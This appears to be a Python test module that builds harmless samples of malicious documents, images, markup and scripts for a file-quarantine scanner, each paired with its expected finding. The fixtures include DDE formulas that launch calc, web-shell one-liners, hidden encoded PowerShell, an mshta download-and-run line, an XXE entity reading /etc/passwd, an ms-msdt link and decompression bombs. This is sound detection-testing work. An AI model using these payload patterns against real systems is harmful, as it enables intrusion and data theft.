"""Hostile documents, pictures, pages and scripts: each made by code, each harmless, each to be held.

`CASES` is a table: name, maker, expected verdict, code that must be among the findings, the engine
that finds it, the name under which it is sent, and its type as detection gives it.
"""

import hashlib
import io
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import NamedTuple

import msoffcrypto
import pikepdf
from pikepdf import Array, Dictionary, Name, String

from quarantine.contract import Verdict
from tests.quarantine.office_files import (
    HEAD,
    MS_REL,
    STRICT,
    compound,
    dde_book,
    field,
    macro_workbook,
    ole_native,
    open_document,
    package,
    package_bin,
    relations,
    rtf,
    rtf_object,
    truncated,
    vba_bin,
    vba_project,
    web_archive,
    word,
    word_2003,
    workbook,
    workbook_link,
)
from tests.quarantine.other_files import (
    DOS_STUB,
    EICAR,
    LAUGHS,
    LOOSE,
    MARKER,
    PACKED,
    annotation,
    attach,
    behind,
    bmp_bomb,
    content,
    damaged,
    external_content,
    form,
    gif_bomb,
    hex_names,
    link,
    many_frames,
    named_script,
    noisy,
    opens,
    page_action,
    pdf,
    picture,
    png_bomb,
    program,
    raw,
    reference_form,
    script,
    stored_zip,
    svg,
    text,
    tiff_bomb,
    webp_bomb,
)

HELD, REFUSED = Verdict.SUSPICIOUS, Verdict.REJECTED
DENIED_CONTENT = b"this very file is on the deny list"
DENIED_HASH = hashlib.sha256(DENIED_CONTENT).hexdigest()


class Case(NamedTuple):
    name: str
    make: Callable[[Path], object]
    verdict: Verdict
    code: str
    engine: str
    file: str
    type: str = "application/octet-stream"


def office(name, file, code, make):
    return Case(name, make, HELD, "office." + code, "office", file)


def encrypted_workbook(path: Path) -> None:
    plain = io.BytesIO()
    target = path.with_suffix(".plain")
    package("xlsx", f"{HEAD}<workbook/>")(target)
    plain.write(target.read_bytes())
    plain.seek(0)
    with path.open("wb") as out:
        msoffcrypto.OfficeFile(plain).encrypt("secret", out)


def renamed_macros(path: Path) -> None:
    package("docx", parts={"word/media/image1.png": vba_bin()})(path)


def hyper(target, kind="hyperlink"):
    return package("docx", rels=[(kind, target, "External")])


def clicks(action):
    body = f'<p:sld xmlns:p="p" xmlns:a="a"><a:hlinkClick action="{action}"/></p:sld>'
    return package(
        "pptx", f"{HEAD}<p:presentation xmlns:p='p'/>", parts={"ppt/slides/slide1.xml": HEAD + body}
    )


def xlsb_dde(path: Path) -> None:
    def wide(words):
        return len(words).to_bytes(4, "little") + words.encode("utf-16-le")

    body = b"\x01\x00" + wide("cmd") + wide("/c echo")
    part = b"\xe8\x02" + bytes([len(body)]) + body + b"\xcc\x04\x00"
    package(
        "xlsb", b"\x83\x01\x00", parts={"xl/externalLinks/externalLink1.bin": part},
        types={"xl/externalLinks/externalLink1.bin": "application/vnd.ms-excel.externalLink"},
    )(path)  # fmt: skip


MACRO_SHEET = (
    f'{HEAD}<xm:macrosheet xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"/>'
)
DDE = word(field("DDEAUTO c:\\\\windows\\\\system32\\\\calc.exe &quot;x&quot;"))
OBJECT = '<w:p><w:r><w:object><o:OLEObject xmlns:o="o" Type="Embed" ProgID="Package"/></w:object></w:r></w:p>'
EVENT = "<office:scripts><office:event-listeners><script:event-listener/></office:event-listeners></office:scripts>"

OFFICE = [
    office("vba in docm", "a.docm", "vba", package("docx", parts={"word/vbaProject.bin": vba_bin()}, defaults={"bin": "application/vnd.ms-office.vbaProject"})),
    office("vba renamed to a picture", "a.docx", "vba", renamed_macros),
    office("vba in an embedding", "a.docx", "vba", package("docx", parts={"word/embeddings/x.dat": vba_bin()})),
    office("vba by relationship alone", "a.docx", "vba", package("docx", rels=[(f"{MS_REL}/vbaProject", "x.bin")])),
    office("vba in xlsm", "a.xlsm", "vba", macro_workbook),
    office("vba in pptm", "a.pptm", "vba", package("pptx", parts={"ppt/vbaProject.bin": vba_bin()})),
    office("vba in doc", "a.doc", "vba", compound({"WordDocument": bytes(600), **vba_project("Macros/")})),
    office("vba in xls", "a.xls", "vba", compound({"Workbook": workbook(), **vba_project("_VBA_PROJECT_CUR/")})),
    office("vba in word 2003 xml", "a.xml", "vba", word_2003),
    office("dde in excel 2003 xml", "a.xml", "dde", text("<?xml version='1.0'?><?mso-application progid='Excel.Sheet'?><Workbook xmlns:ss='ss'><Cell ss:Formula=\"=cmd|'/c calc'!A0\"/></Workbook>")),
    office("vba in a web archive", "a.mht", "vba", web_archive),
    office("macro sheet in xls", "a.xls", "xlm", compound({"Workbook": workbook(sheet_type=1)})),
    office("macro sheet without container", "a.xls", "xlm", raw(b"\x09\x04\x06\x00\x00\x00\x40\x00\x00\x00" + bytes(60))),
    office("macro sheet in xlsx", "a.xlsx", "xlm", package("xlsx", f"{HEAD}<workbook/>", parts={"xl/macrosheets/sheet1.xml": MACRO_SHEET})),
    office("macro sheet by relationship", "a.xlsx", "xlm", package("xlsx", f"{HEAD}<workbook/>", rels=[(f"{MS_REL}/xlMacrosheet", "m.xml")])),
    office("macro sheet in xlsb", "a.xlsb", "xlm", package("xlsb", b"\x83\x01\x00", parts={"xl/m.bin": b"\x81\x01\x00"}, types={"xl/m.bin": "application/vnd.ms-excel.macrosheet"})),
    office("macro sheet in slk", "a.slk", "xlm", text("ID;P\nO;E\nNN;NAuto_open;ER101C1\nC;X1;Y101;EHALT()\nE\n")),
    office("dde", "a.docx", "dde", package("docx", DDE)),
    office("dde over runs", "a.docx", "dde", package("docx", word(field(*"DDEAUTO", " calc", " x")))),
    office("dde in one run", "a.docx", "dde", package("docx", word(field("DD", "EAUTO", " calc x", in_one_run=True)))),
    office("dde by numbers", "a.docx", "dde", package("docx", word(field("QUOTE 68 68 69 32 99 97 108 99")))),
    office("dde as simple field", "a.docx", "dde", package("docx", word('<w:p><w:fldSimple w:instr="DDE calc x"/></w:p>'))),
    office("dde in a hyperlink of a header", "a.docx", "dde", package("docx", parts={"word/header7.xml": word("<w:p><w:hyperlink>" + field("DDE calc x")[5:-6] + "</w:hyperlink></w:p>")})),
    office("dde in the strict form", "a.docx", "dde", package("docx", word(field("DDE calc x"), STRICT))),
    office("dde in utf-16", "a.docx", "dde", package("docx", DDE.replace("UTF-8", "UTF-16").encode("utf-16"))),
    office("dde in xlsx", "a.xlsx", "dde", workbook_link(f'{HEAD}<externalLink><ddeLink ddeService="svc" ddeTopic="t"/></externalLink>')),
    office("dde in xlsb", "a.xlsb", "dde", xlsb_dde),
    office("dde in xls", "a.xls", "dde", compound({"Workbook": workbook(sup_book=dde_book())})),
    office("dde in doc", "a.doc", "dde", compound({"WordDocument": bytes(600) + b"\x13 DDEAUTO calc x \x14 1 \x15" + bytes(60)})),
    office("dde in doc as utf-16", "a.doc", "dde", compound({"WordDocument": bytes(600) + "\x13DDEAUTO calc x\x14\x15".encode("utf-16-le")})),
    office("dde in doc as utf-16 after spaces", "a.doc", "dde", compound({"WordDocument": bytes(600) + "\x13  DDE calc x\x14\x15".encode("utf-16-le")})),
    office("dde in rtf", "a.rtf", "dde", rtf(rb"{\field{\*\fldinst DDEAUTO calc x}{\fldrslt 1}}")),
    office("dde in ods", "a.ods", "dde", open_document("spreadsheet", "<table:table><office:dde-source/></table:table>")),
    office("included text from a host", "a.docx", "external_object", package("docx", word(field('INCLUDETEXT "https://host.example/a.docx"')))),
    Case("dde in csv", text("a;b\n=cmd|'/c calc'!A1;2\n"), HELD, "text.dde", "office", "a.csv", "text/csv"),
    Case("dde nested in csv", text("a,b\n1,=10+20+cmd|'/c calc'!A0\n"), HELD, "text.dde", "office", "a.csv", "text/csv"),
    Case("dde quoted in csv", text('a,b\n1,"@SUM(1+1)*cmd|\'/c calc\'!A0"\n'), HELD, "text.dde", "office", "a.csv", "text/csv"),
    Case("dde bare in tsv", text("a\tb\n1\t=MSEXCEL|topic!A0\n"), HELD, "text.dde", "office", "a.tsv", "text/plain"),
    Case("dde in utf-16 csv", text("a\tb\n1\t=cmd|'/c calc'!A0\n", "utf-16"), HELD, "text.dde", "office", "a.csv", "text/plain"),
    office("template on a host", "a.docx", "external_template", package("docx", parts={"word/_rels/settings.xml.rels": relations(("attachedTemplate", "https://host.example/t.dotm", "External"))})),
    office("template on a file server", "a.docx", "external_template", hyper("file:///\\\\host\\share\\t.dotm", "attachedTemplate")),
    office("template of rtf on a host", "a.rtf", "external_template", rtf(rb"{\*\template http://host.example/t.dotm}")),
    office("object on a host", "a.docx", "external_object", hyper("https://host.example/a.html!", "oleObject")),
    office("object by mhtml", "a.docx", "external_object", hyper("mhtml:https://host.example/a.html", "oleObject")),
    office("frame on a host", "a.docx", "external_object", hyper("http://host.example/f.html", "frame")),
    office("part of a document on a host", "a.docx", "external_object", hyper("//host/part.docx", "subDocument")),
    office("picture on a file server", "a.docx", "external_picture", hyper("file://host/share/a.png", "image")),
    office("link into a program", "a.docx", "link_scheme", hyper("ms-msdt:/id PCWDiagnostic")),
    office("program at a click", "a.pptx", "action", clicks("ppaction://program")),
    office("macro at a click", "a.pptx", "action", clicks("ppaction://macro?name=x")),
    office("packed file in docx", "a.docx", "package", package("docx", word(OBJECT), parts={"word/embeddings/oleObject1.bin": package_bin()})),
    office("packed file by name alone", "a.docx", "package", package("docx", word(OBJECT))),
    office("packed file in xls", "a.xls", "package", compound({"Workbook": workbook(), "MBD0001/\x01Ole10Native": ole_native()})),
    office("packed file in doc", "a.doc", "package", compound({"WordDocument": bytes(600), "ObjectPool/_1/\x01Ole10Native": ole_native()})),
    office("packed file in rtf", "a.rtf", "package", rtf(rtf_object(b"Package", ole_native()))),
    office("object in rtf", "a.rtf", "rtf_object", rtf(rtf_object(b"Word.Document.8", bytes(40)))),
    office("object in rtf opened by itself", "a.rtf", "object_update", rtf(rtf_object(b"Excel.Sheet.8", bytes(40), b"objupdate"))),
    office("activex in docx", "a.docx", "activex", package("docx", parts={"word/activeX/activeX1.xml": f"{HEAD}<ocx/>"}, types={"word/activeX/activeX1.xml": "application/vnd.ms-office.activeX+xml"})),
    office("activex by relationship", "a.xlsx", "activex", package("xlsx", f"{HEAD}<workbook/>", rels=[("control", "c.xml")])),
    office("activex in xls", "a.xls", "activex", compound({"Workbook": workbook(), "Ctls": bytes(80)})),
    office("encrypted workbook", "a.xlsx", "encrypted", encrypted_workbook),
    office("encrypted package by name", "a.docx", "encrypted", compound({"EncryptedPackage": bytes(5000), "EncryptionInfo": bytes(90)})),
    office("menus that run at opening", "a.xlsx", "custom_ui", package("xlsx", f"{HEAD}<workbook/>", parts={"customUI/customUI.xml": f'{HEAD}<customUI xmlns="http://schemas.microsoft.com/office/2006/01/customui" onLoad="x.run"/>'})),
    office("entities in a part", "a.docx", "dtd", package("docx", '<?xml version="1.0"?><!DOCTYPE d [<!ENTITY a "b">]><d>&a;</d>')),
    office("macro in odt", "a.odt", "macro", open_document("text", "", parts={"Basic/Standard/Module1.xml": "<x/>"})),
    office("python macro in ods", "a.ods", "macro", open_document("spreadsheet", "", parts={"Scripts/python/a.py": "pass"})),
    office("event in odt", "a.odt", "macro", open_document("text", EVENT)),
    office("link to a macro in odt", "a.odt", "macro", open_document("text", '<text:a xlink:href="vnd.sun.star.script:a?language=Basic"/>')),
    office("object of odt on a host", "a.odt", "external_object", open_document("text", '<draw:object xlink:href="https://host.example/a.ods"/>')),
    office("frame of odt on a host", "a.odt", "external_object", open_document("text", '<draw:floating-frame xlink:href="https://host.example/"/>')),
    office("encrypted ods", "a.ods", "encrypted", open_document("spreadsheet", "", manifest="<manifest:encryption-data/>")),
    office("broken compound file", "a.doc", "broken", truncated(compound({"WordDocument": bytes(600)}), 0.3)),
    office("broken package", "a.docx", "broken", truncated(package("docx", DDE))),
]  # fmt: skip


def pdf_case(name, code, make):
    return Case(name, make, HELD, "pdf." + code, "pdf", "a.pdf", "application/pdf")


def locked(**passwords):
    return pdf(encryption=pikepdf.Encryption(R=6, **passwords))


PDF = [
    pdf_case("script at opening", "javascript", pdf(opens(script()))),
    pdf_case("script in object streams", "javascript", pdf(opens(script()), **PACKED)),
    pdf_case("script with hexadecimal names", "javascript", hex_names),
    pdf_case("script by name", "javascript", pdf(named_script, **PACKED)),
    pdf_case("script behind a page turn", "javascript", pdf(opens(Dictionary(S=Name.GoTo, D=Array([0]), Next=script())))),
    pdf_case("script of a field", "javascript", pdf(annotation(Subtype=Name.Widget, AA=Dictionary(K=script())))),
    pdf_case("launch", "launch", pdf(opens(Dictionary(S=Name.Launch, F=String("calc.exe"))))),
    pdf_case("launch at a click", "launch", pdf(annotation(Subtype=Name.Link, A=Dictionary(S=Name.Launch, F=String("a.exe"))), **PACKED)),
    pdf_case("page at opening", "open_uri", pdf(opens(Dictionary(S=Name.URI, URI=String("https://host.example"))))),
    pdf_case("link with a script", "uri_scheme", pdf(link("javascript:alert(1)"))),
    pdf_case("link to a file server", "uri_scheme", pdf(link("\\\\host\\share\\a"))),
    pdf_case("link to a file", "uri_scheme", pdf(link("file://host/share/a"))),
    pdf_case("action of a page", "additional_action", pdf(page_action)),
    pdf_case("another file", "remote_goto", pdf(opens(Dictionary(S=Name.GoToR, F=String("\\\\host\\share\\a.pdf"), D=Array([0]))))),
    pdf_case("another file inside", "remote_goto", pdf(annotation(Subtype=Name.Link, A=Dictionary(S=Name.GoToE, D=Array([0]))))),
    pdf_case("form that is sent", "submit_form", pdf(annotation(Subtype=Name.Widget, A=Dictionary(S=Name.SubmitForm, F=String("https://host.example"))))),
    pdf_case("form data taken in", "submit_form", pdf(opens(Dictionary(S=Name.ImportData, F=String("a.fdf"))))),
    pdf_case("flash", "rich_media", pdf(annotation(Subtype=Name.RichMedia))),
    pdf_case("film", "rich_media", pdf(annotation(Subtype=Name.Screen, A=Dictionary(S=Name.Rendition, OP=0)))),
    pdf_case("xfa", "xfa", pdf(form(XFA=Array([String("template"), String("x")])), **PACKED)),
    pdf_case("attached file", "embedded_file", pdf(attach)),
    pdf_case("attached to a page", "embedded_file", pdf(annotation(Subtype=Name.FileAttachment))),
    pdf_case("content elsewhere", "external_stream", pdf(external_content)),
    pdf_case("form elsewhere", "external_stream", pdf(reference_form)),
    pdf_case("locked", "encrypted", locked(owner="o", user="u")),
    pdf_case("locked with an empty password", "encrypted", locked(owner="o", user="")),
    pdf_case("no pdf at all", "broken", raw(b"%PDF-1.7\n" + bytes(range(256)) * 8)),
]  # fmt: skip


def image_case(name, code, file, make):
    kind = file.rpartition(".")[2].replace("jpg", "jpeg").replace("tif", "tiff")
    return Case(name, make, HELD, "image." + code, "images", file, "image/" + kind)


IMAGES = [
    image_case("png bomb", "pixels", "a.png", png_bomb()),
    image_case("png long strip", "pixels", "a.png", png_bomb(2_000_000_000, 1)),
    image_case("gif bomb", "pixels", "a.gif", gif_bomb),
    image_case("bmp bomb", "pixels", "a.bmp", bmp_bomb),
    image_case("tiff bomb", "pixels", "a.tif", tiff_bomb),
    image_case("webp bomb", "pixels", "a.webp", webp_bomb),
    image_case("thousands of frames", "frames", "a.gif", many_frames),
    image_case("png with less data than claimed", "broken", "a.png", damaged(png_bomb(3_000, 3_000), cut=True)),
    image_case("jpeg cut", "broken", "a.jpg", damaged(noisy("JPEG"), cut=True)),
    image_case("png cut", "broken", "a.png", damaged(noisy("PNG"), cut=True)),
    image_case("png with a wrong sum", "broken", "a.png", damaged(noisy("PNG"))),
    image_case("webp cut", "broken", "a.webp", damaged(noisy("WEBP"), cut=True)),
    image_case("bmp cut", "broken", "a.bmp", damaged(noisy("BMP"), cut=True)),
    image_case("text called png", "broken", "a.png", text("no picture")),
]  # fmt: skip


def markup(name, code, file, make):
    kind = "image/svg+xml" if file.endswith("svg") else "text/xml"
    return Case(name, make, HELD, "markup." + code, "markup", file, kind)


FILE_ENTITY = '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'

MARKUP = [
    markup("billion laughs", "dtd", "a.xml", text(LAUGHS)),
    markup("file by entity", "dtd", "a.xml", text(FILE_ENTITY)),
    markup("host by parameter entity", "dtd", "a.xml", text('<!DOCTYPE a [<!ENTITY % x SYSTEM "http://host.example/x"> %x;]><a/>')),
    markup("quadratic growth", "dtd", "a.xml", text('<!DOCTYPE a [<!ENTITY x "' + "x" * 9000 + '">]><a>' + "&x;" * 900 + "</a>")),
    markup("entity in utf-16", "dtd", "a.xml", text(FILE_ENTITY, "utf-16")),
    markup("entity in utf-7", "dtd", "a.xml", raw(b'<?xml version="1.0" encoding="utf-7"?>' + FILE_ENTITY.encode("utf-7"))),
    markup("entity in broken xml", "dtd", "a.xml", text('<?xml version="1.0"?><!DOCTYPE a [<oops <!ENTITY x "y">]><a/>')),
    markup("entity in a drawing", "dtd", "a.svg", text('<!DOCTYPE svg [<!ENTITY x "y">]><svg>&x;</svg>')),
    markup("xml in ebcdic", "encoding", "a.xml", text("<?xml version='1.0'?><a/>", "cp500")),
    markup("script in a drawing", "svg_script", "a.svg", svg("<script>alert(1)</script>")),
    markup("script at loading", "svg_script", "a.svg", svg("", 'onload="alert(1)"')),
    markup("script in a link", "svg_script", "a.svg", svg('<a xlink:href="java&#9;script:alert(1)"/><a xlink:href=" javascript:alert(1)"/>')),
    markup("script by animation", "svg_script", "a.svg", svg('<a><set attributeName="href" to="javascript:alert(1)"/></a>')),
    markup("page in a drawing", "svg_foreign", "a.svg", svg("<foreignObject/>")),
    markup("picture from a host", "svg_external", "a.svg", svg('<image href="https://host.example/a.png"/>')),
    markup("style from a host", "svg_external", "a.svg", svg("<style>@import 'x.css';</style>")),
    markup("fill from a host", "svg_external", "a.svg", svg('<rect style="fill:url(https://host.example/a#b)"/>')),
    markup("page as data", "svg_script", "a.svg", svg('<use href="data:image/svg+xml;base64,AAAA"/>')),
    markup("drawing not well-formed", "svg_broken", "a.svg", text("<svg><g></svg>")),
]  # fmt: skip


def rule(name, verdict, code, file, make):
    return Case(name, make, verdict, "rules." + code, "rules", file)


LNK = bytes.fromhex("4c0000000114020000000000c000000000000046") + bytes(60)
SHELL = 'CreateObject("WScript.Shell").Run "cmd /c echo harmless"'
PNG = picture()
PE_TEXT = DOS_STUB.hex().encode() + b"6d6f6465"
TAIL = stored_zip(note=b"harmless")

RULES = [
    rule("eicar", REFUSED, "eicar", "a.txt", text(EICAR)),
    rule("eicar in a workbook", REFUSED, "eicar", "a.xlsx", package("xlsx", f"{HEAD}<workbook/>", parts={"xl/sharedStrings.xml": EICAR}, method=zipfile.ZIP_STORED)),
    rule("eicar in a pdf", REFUSED, "eicar", "a.pdf", pdf(content(EICAR.encode()), **LOOSE)),
    rule("own marker", REFUSED, "test_marker", "a.txt", text("x " + MARKER)),
    rule("shortcut", REFUSED, "shortcut", "a.lnk", raw(LNK)),
    rule("html application", REFUSED, "html_application", "a.hta", text("<html><HTA:APPLICATION id=a></html>")),
    rule("autorun", REFUSED, "autorun", "autorun.inf", text("[AutoRun]\r\nopen=a.exe\r\n")),
    rule("folder command", HELD, "shell_command_file", "a.scf", text("[Shell]\r\nCommand=2\r\nIconFile=\\\\host\\share\\a.ico")),
    rule("internet shortcut to a file", HELD, "shell_command_file", "a.url", text("[InternetShortcut]\r\nURL=file://host/a.exe")),
    rule("settings shortcut", REFUSED, "setting_content", "a.settingcontent-ms", text("<PCSettings><DeepLink>x</DeepLink></PCSettings>")),
    rule("web query", HELD, "web_query", "a.iqy", text("WEB\r\n1\r\nhttps://host.example/a\r\n")),
    rule("script of the script host", REFUSED, "script_dropper", "a.vbs", text(SHELL)),
    rule("encoded command", REFUSED, "encoded_command", "a.bat", text("powershell -w hidden -enc " + "QUJD" * 20)),
    rule("download and run", HELD, "download_and_run", "a.bat", text("mshta https://host.example/a")),
    rule("windows program", HELD, "program", "a.exe", program),
    rule("linux program", HELD, "program", "a", raw(b"\x7fELF" + bytes(60))),
    rule("php shell", REFUSED, "web_shell", "a.php", text("<?php " + "eval($_" + "POST['x']); ?>")),
    rule("asp shell", REFUSED, "web_shell", "a.asp", text("<% ev" + "al request(1) %>")),
    rule("jsp shell", REFUSED, "web_shell", "a.jsp", text("<% Runtime.getRuntime().exec(" + 'request.getParameter("c")); %>')),
    rule("php in a picture", REFUSED, "code_in_picture", "a.gif", raw(b"GIF89a" + bytes(40) + b"<?php echo 1; ?>")),
    rule("page in a picture", HELD, "page_in_picture", "a.png", behind(PNG, b"<html><body></body></html>")),
    rule("script as a picture", HELD, "page_in_picture", "a.gif", raw(b"GIF89a/*" + bytes(40) + b"*/=1;")),
    rule("smuggled file", HELD, "smuggled_download", "a.html", text("<script>b=new Blob([atob('AA')]);a.download='a.exe'</script>")),
    rule("vbscript page", HELD, "vbscript_page", "a.html", text('<script language="VBScript">x=1</script>')),
    rule("picture and archive", HELD, "picture_and_archive", "a.png", behind(PNG, TAIL)),
    rule("pdf and archive", HELD, "document_and_archive", "a.pdf", behind(pdf(), TAIL)),
    rule("pdf as a picture", HELD, "disguised_pdf", "a.gif", raw(b"GIF89a" + bytes(60) + b"%PDF-1.4\n1 0 obj\nstartxref\n0\n%%EOF")),
    rule("support tool", REFUSED, "diagnostic_link", "a.html", text("location='ms-msdt:/id x /param IT_" + "BrowseForFile=x'")),
    rule("control by mhtml", REFUSED, "mhtml_link", "a.rels", text('Target="mhtml:https://host.example/a.html!x-usc:https://host.example/a"')),
    rule("equation in rtf", REFUSED, "equation_exploit", "a.rtf", rtf(rtf_object(b"Equation.3", bytes(9), b"objupdate"))),
    rule("link object in rtf", REFUSED, "rtf_link_exploit", "a.rtf", rtf(rtf_object(b"OLE2Link", "http://host".encode("utf-16-le")))),
    rule("disguised rtf", HELD, "rtf_disguised", "a.rtf", raw(b"{\\rt0{\\object{\\*\\objdata 00}}}")),
    rule("dde of the command line", REFUSED, "dde_command", "a.xml", text('<ddeLink ddeService="cmd" ddeTopic="/c"/>')),
    rule("pdf with machine code", REFUSED, "pdf_exploit", "a.pdf", pdf(opens(script("unescape('%u90" + "90')")), **LOOSE)),
    rule("program in a pdf", REFUSED, "hidden_program", "a.pdf", pdf(content(DOS_STUB), **LOOSE)),
    rule("program in rtf", REFUSED, "hidden_program", "a.rtf", rtf(PE_TEXT)),
    Case("denied by hash", raw(DENIED_CONTENT), REFUSED, "denied.hash", "denied", "a.bin"),
]  # fmt: skip

CASES = OFFICE + PDF + IMAGES + MARKUP + RULES
